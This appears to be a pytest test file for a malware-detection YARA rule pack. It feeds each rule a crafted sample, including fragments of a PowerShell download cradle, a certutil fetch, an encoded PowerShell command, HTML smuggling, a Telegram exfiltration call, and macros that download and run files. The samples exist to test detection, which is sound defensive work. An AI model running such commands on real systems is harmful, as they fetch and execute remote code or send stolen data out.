"""The YARA unit, and every rule of the own pack on bytes that only look the part."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from analyzers.attachments import yara_rules
from analyzers.attachments.yara_rules import UNIT
from analyzers.lib.rulefiles import compile_rules
from analyzers.model.observation import Finding, Severity
from analyzers.model.rule import RuleMatch, RuleSets
from analyzers.model.unit import Context
from resources.packs import PACK, own_rules
from tests.analyzers.attachments.observed import findings, observe
from tests.samples.office import packaged, rich_object, rich_text
from workbench.simulation.samples.archive import Entry, zip_archive
from workbench.simulation.samples.docm import INERT_MACRO
from workbench.simulation.samples.pe import Program, Section, portable_executable

LONG = "A" * 400
FIELD = "<form><input name=p type=password></form>"
LINK_HEAD = bytes.fromhex("4C0000000114020000000000C000000000000046")
NOTEBOOK = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3")
STORE = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")


def rules_of(sources: dict[str, str]) -> Context:
    rules, why = compile_rules({f"{PACK}/{file}": text for file, text in sources.items()})
    assert rules is not None, why
    return Context(rules=RuleSets(rules, rules, (PACK,)))


@pytest.fixture(scope="module")
def own() -> Context:
    return rules_of(own_rules())


def page(script: str, body: str = "") -> bytes:
    return f"<html><body>{body}<script>{script}</script></body></html>".encode()


def program(
    library: str = "K.dll", *names: str, data: bytes = b"\0", **more: tuple[str, ...]
) -> bytes:
    """An executable with imports; ``more`` maps further libraries, "_" for ".", to names."""
    imports = {library: names or ("ExitProcess",)}
    imports |= {other.replace("_", "."): functions for other, functions in more.items()}
    return portable_executable(Program(imports=imports, sections=(Section(".data", data),)))


CASES: dict[str, tuple[bytes, str]] = {
    "html.html_smuggling_blob": (
        page("var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x';a.click()"),
        "html",
    ),
    "html.html_smuggling_data_link": (
        f'<html><a href="data:application/zip;base64,{LONG}">x</a>'.encode(),
        "html",
    ),
    "html.html_smuggling_archive_literal": (page(f'var d="UEsDB{LONG}"; atob(d)'), "html"),
    "html.html_password_form": (
        b'<html><form action="https://collect.test/a.php"><input type="password"></form>',
        "html",
    ),
    "html.html_kit_messenger_bot": (
        page("fetch('https://api.telegram.org/bot0:x/sendMessage')", FIELD),
        "html",
    ),
    "html.html_kit_mailbox_login": (
        page("$.ajax({})", f"<h1>Sign in to your account</h1>{FIELD}"),
        "html",
    ),
    "html.html_kit_blocks_inspection": (
        page("document.oncontextmenu = no; if (e.keyCode == 123) {}"),
        "html",
    ),
    "html.html_hidden_redirect": (page("window.location.href = atob('aGk=')"), "html"),
    "html.html_script_packed": (page("document.write(unescape('%3c'))"), "html"),
    "html.svg_active": (b"<svg><script>window.location='https://a.test'</script></svg>", "svg"),
    "macro.macro_downloads_and_runs": (
        b"Sub AutoOpen()\nURLDownloadToFile 0\nShell \"a\"\nEnd Sub",
        "text",
    ),
    "macro.macro_starts_interpreter": (INERT_MACRO.encode(), "text"),
    "macro.macro_runs_machine_code": (
        b"Private Declare PtrSafe Function VirtualAlloc\nRtlMoveMemory\nCreateThread",
        "text",
    ),
    "macro.macro_process_by_wmi": (
        b'GetObject("winmgmts:").Get("Win32_Process").Create "x"',
        "text",
    ),
    "macro.macro_text_assembled": (b"Sub A()\nx = " + b"Chr(65) & " * 50 + b'""', "text"),
    "macro.macro_sheet_calls_system": (
        b"Excel 4.0 macro sheet\nA1: =CALL(\"urlmon\",\"x\")",
        "text",
    ),
    "macro.rtf_remote_template": (rich_text("{\\*\\template https://cdn.test/a.dotm}"), "rtf"),
    "macro.rtf_equation_object": (rich_text(rich_object(b"Equation.3", bytes(40))), "rtf"),
    "program.program_fetches_and_runs": (
        program("urlmon.dll", "URLDownloadToFileA", shell32_dll=("ShellExecuteA",)),
        "pe",
    ),
    "program.program_injects_code": (
        program("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"),
        "pe",
    ),
    "program.program_reads_browser_secrets": (
        program(
            data=b"\\Google\\Chrome\\User Data|\\Mozilla\\Firefox\\Profiles|logins.json|Login Data"
        ),
        "pe",
    ),
    "program.program_is_compiled_script": (program(data=b"AU3!EA06"), "pe"),
    "program.program_poses_as_document": (program(), "pe"),
    "script.script_host_dropper": (
        b'new ActiveXObject("MSXML2.XMLHTTP"); "ADODB.Stream"; "WScript.Shell"',
        "script",
    ),
    "script.script_decodes_and_executes": (b"WScript.Echo 1\nExecute(StrReverse(x))", "script"),
    "script.powershell_download_cradle": (b"IEX (x.DownloadString('https://a.test'))", "script"),
    "script.powershell_encoded_command": (f"powershell -nop -enc {LONG}".encode(), "script"),
    "script.command_fetches_with_windows_tools": (b"certutil -urlcache -f http://a.test", "script"),
    "script.hta_runs_commands": (
        b'<hta:application id=a><script>new ActiveXObject("WScript.Shell")</script>',
        "html",
    ),
    "script.internet_shortcut_to_share": (
        b"[InternetShortcut]\r\nURL=file://files.test/share/a.lnk\r\n",
        "text",
    ),
    "script.remote_desktop_shares_drives": (
        b"full address:s:host.test\r\ndrivestoredirect:s:*\r\n",
        "text",
    ),
    "container.shortcut_starts_interpreter": (
        LINK_HEAD + "cmd.exe /c dir".encode("utf-16-le"),
        "lnk",
    ),
    "container.notebook_embeds_script": (
        NOTEBOOK + bytes(64) + STORE + bytes(20) + b'CreateObject("x")',
        "one",
    ),
    "container.disk_image_with_shortcut": (bytes(0x8001) + b"CD001" + LINK_HEAD, "iso"),
    "container.archive_double_extension": (
        zip_archive([Entry("invoice.pdf.exe", b"x"), Entry("a.txt", b"x")]),
        "zip",
    ),
    "container.archive_single_script": (zip_archive([Entry("invoice.js", b"x")]), "zip"),
    "container.pdf_starts_command": (b"%PDF-1.7 << /S /Launch /F (cmd.exe) >>", "pdf"),
}  # fmt: skip
SPECIAL_NAMES = {"program.program_poses_as_document": "invoice.pdf.exe"}


def test_every_rule_of_the_pack_has_a_sample(own: Context) -> None:
    listed = {
        f"{line.split()[1]}"
        for source in own_rules().values()
        for line in source.splitlines()
        if line.startswith("rule ")
    }
    assert listed == {case.partition(".")[2] for case in CASES}


@pytest.mark.parametrize("rule", CASES)
def test_a_rule_of_the_pack_finds_its_sample(own: Context, rule: str) -> None:
    data, kind = CASES[rule]
    found = findings(observe(UNIT, data, SPECIAL_NAMES.get(rule, "sample"), kind, own))
    assert f"yara.{rule}" in found
    assert found[f"yara.{rule}"].severity >= Severity.MEDIUM


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (page("console.log(1)", "<p>Dear all</p><a href='https://a.test'>minutes</a>"), "html"),
        (page("var b = new Blob(['x'])"), "html"),
        (b"<html><form action='https://shop.test/search'><input type=text></form>", "html"),
        (b"<svg><path d='M0 0'/></svg>", "svg"),
        (b"Sub Tidy()\nSelection.TypeText Chr(10)\nEnd Sub", "text"),
        (rich_text("\\pard Dear all\\par" + rich_object(b"Package", packaged("a", b"b"))), "rtf"),
        (program("kernel32.dll", "CreateFileW", "WriteFile"), "pe"),
        (b"Get-ChildItem | Sort-Object Length", "script"),
        (b"[InternetShortcut]\r\nURL=https://example.test/\r\n", "text"),
        (zip_archive([Entry("a.pdf", b"x"), Entry("b.docx", b"x")]), "zip"),
        (b"%PDF-1.7 << /S /URI /URI (https://example.test/) >>", "pdf"),
        (NOTEBOOK + b"powershell -enc is what we discussed", "one"),
    ],
)  # fmt: skip
def test_the_pack_is_silent_on_harmless_content(own: Context, data: bytes, kind: str) -> None:
    assert not observe(UNIT, data, "sample", kind, own)


def test_each_rule_says_what_it_means(own: Context) -> None:
    for rule in own.rules.whole:
        if not rule.is_private:
            assert {"title", "description", "severity"} <= set(rule.meta), rule.identifier


RULE = 'rule one {{ meta: {meta} strings: $a = "needle" condition: $a }}'


def seen(meta: str) -> Finding:
    context = rules_of({"file": RULE.format(meta=meta)})
    return findings(observe(UNIT, b"hay needle hay", "a", "bin", context))["yara.file.one"]


@pytest.mark.parametrize(
    ("meta", "severity"),
    [
        ('severity = "critical"', Severity.CRITICAL),
        ('severity = "INFO"', Severity.INFO),
        ("severity = 100", Severity.HIGH),
        ("score = 60", Severity.MEDIUM),
        ("score = 10", Severity.LOW),
        ('author = "x"', Severity.MEDIUM),
    ],
)
def test_severity_comes_from_the_rule_or_is_medium(meta: str, severity: Severity) -> None:
    assert seen(meta).severity is severity


def test_a_match_tells_what_matched_and_where() -> None:
    context = rules_of({"file": RULE.format(meta='title = "Found it"')})
    found = observe(UNIT, b"hay needle hay", "a", "bin", context)
    match = next(one for one in found if isinstance(one, RuleMatch))
    assert (match.rule, match.namespace) == ("one", "file")
    place = match.strings[0]
    assert (place.identifier, place.offset, place.excerpt) == ("$a", 4, "needle")
    assert findings(found)["yara.file.one"].title == "Found it"


def test_rules_know_name_extension_and_kind() -> None:
    condition = 'filename == "a.PDF" and extension == ".pdf" and filetype == "EXE"'
    context = rules_of({"file": f"rule one {{ condition: {condition} }}"})
    assert findings(observe(UNIT, b"x", "dir/a.PDF", "pe", context))


SLOW = "rule slow { condition: for all i in (0..2000000000) : (uint8(i % 1000) >= 0) }"


def test_rules_that_take_too_long_do_not_silence_our_own(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "SECONDS", 1)
    mine = {f"{PACK}/file": RULE.format(meta='title = "Found it"')}
    whole, _ = compile_rules({**mine, "slow/a.yar": SLOW})
    own, _ = compile_rules(mine)
    context = Context(rules=RuleSets(whole, own, (PACK, "slow")))
    found = findings(observe(UNIT, b"needle" * 400, "a", "bin", context))
    assert set(found) == {"limit.yara.timeout", "yara.file.one"}
    assert found["limit.yara.timeout"].incomplete
    assert found["limit.yara.timeout"].evidence == "slow: not done within 1 s"


def test_our_own_rules_out_of_time_are_not_checked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_rules, "SECONDS", 1)
    found = findings(observe(UNIT, bytes(2_000), "a", "bin", rules_of({"file": SLOW})))
    assert set(found) == {"limit.yara.timeout"}
    assert found["limit.yara.timeout"].evidence.startswith(f"{PACK}: ")


def test_a_string_found_too_often_is_told() -> None:
    context = rules_of({"file": 'rule often { strings: $a = "aa" condition: #a > 5 }'})
    found = findings(observe(UNIT, b"a" * 1_200_000, "a", "bin", context))
    assert found["limit.yara.string"].evidence == "often"


def packed(meta: str = "", strings: str = '$a = "needle"', tags: str = "") -> Context:
    rule = f"rule one {tags} {{ meta: x = 1 {meta} strings: {strings} condition: any of them }}"
    rules, why = compile_rules({"theirs/sub/a.yar": rule})
    assert rules is not None, why
    return Context(rules=RuleSets(rules, None, ("theirs",)))


def test_a_match_of_another_pack_bears_its_name() -> None:
    said = observe(
        UNIT, b"needle", "a", "bin", packed('description = "Bad" score = "80"', tags=": t")
    )
    match, finding = said
    assert isinstance(match, RuleMatch)
    assert isinstance(finding, Finding)
    assert (match.pack, match.namespace, match.tags) == ("theirs", "sub/a.yar", ("t",))
    assert dict(match.meta) == {"x": "1", "description": "Bad", "score": "80"}
    assert finding.rule == "yara.pack.theirs.sub/a.yar.one"
    assert finding.severity is Severity.HIGH
    assert finding.title == "Rule one of theirs: Bad"


@pytest.mark.parametrize(
    ("strings", "data", "excerpt", "length", "binary"),
    [
        ('$a = "needle"', b"a needle", "needle", 6, False),
        ('$a = "needle" wide', "a needle".encode("utf-16-le"), "needle", 12, False),
        ("$a = { 00 01 FF 10 }", b"..\x00\x01\xff\x10", "00 01 FF 10", 4, True),
        (
            "$a = { 00 01 [60] 02 }",
            b"\0\1" + bytes(60) + b"\2",
            "00 01" + " 00" * 22 + " …",
            63,
            True,
        ),
        ('$a = "needle" xor(7)', bytes(c ^ 7 for c in b"needle"), "needle (XOR 0x07)", 6, False),
    ],
)
def test_matched_bytes_are_shown_as_what_they_are(
    strings: str, data: bytes, excerpt: str, length: int, binary: bool
) -> None:
    match = observe(UNIT, data, "a", "bin", packed(strings=strings))[0]
    assert isinstance(match, RuleMatch)
    (one,) = match.strings
    assert (one.excerpt, one.length, one.binary) == (excerpt, length, binary)


def test_places_beyond_the_limit_are_counted() -> None:
    rule = 'rule one { strings: $a = "x" condition: #a > 2 }'
    rules, _ = compile_rules({"theirs/a.yar": rule})
    match = observe(UNIT, b"x" * 50, "a", "bin", Context(rules=RuleSets(rules)))[0]
    assert isinstance(match, RuleMatch)
    assert (len(match.strings), match.more) == (4, 46)


def test_matches_beyond_the_limit_are_counted() -> None:
    many = "\n".join(f"rule r{n} {{ condition: true }}" for n in range(130))
    found = findings(observe(UNIT, b"x", "a", "bin", rules_of({"file": many})))
    assert found["limit.yara.matches"].title.startswith("130 rules")


def test_without_rules_nothing_is_said() -> None:
    assert not observe(UNIT, b"x", "a", "bin")


@pytest.mark.long
def test_public_packs_compile_file_by_file(shared: Path, tmp_path: Path) -> None:
    import tarfile

    read: dict[str, Any] = {}
    for archive in (shared / "corpus").glob("*yara*.tar.xz"):
        with tarfile.open(archive) as opened:
            for member in opened:
                if member.name.endswith((".yar", ".yara")):
                    source = opened.extractfile(member)
                    assert source is not None
                    text = source.read().decode("utf-8", "replace")
                    read[member.name] = compile_rules({"one": text})[1]
    assert read
    assert not any(read.values())
